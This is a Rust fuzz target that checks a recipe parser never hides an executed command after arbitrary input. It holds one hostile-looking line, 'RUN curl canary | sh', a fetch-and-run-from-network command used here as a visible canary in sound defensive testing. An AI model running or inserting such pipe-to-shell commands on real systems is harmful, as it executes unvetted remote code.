#![no_main]

use fuzz::check_recipe;
use libfuzzer_sys::fuzz_target;
use runner::Recipe;

/// A command after every input.
const COMMAND: &str = "RUN curl canary | sh";

fuzz_target!(|input: &[u8]| {
    let text = String::from_utf8_lossy(input);
    check_recipe(&Recipe::from_text(&text));
    // The empty line ends every continued line, so that no text before a command hides it.
    let recipe = Recipe::from_text(&format!("{text}\n\n{COMMAND}\n"));
    check_recipe(&recipe);
    let is_shown = |line: &String| line.contains("canary") || line.ends_with(" more characters)");
    assert!(recipe.more > 0 || recipe.executes.iter().any(is_shown), "a command is hidden: {recipe:?}");
});
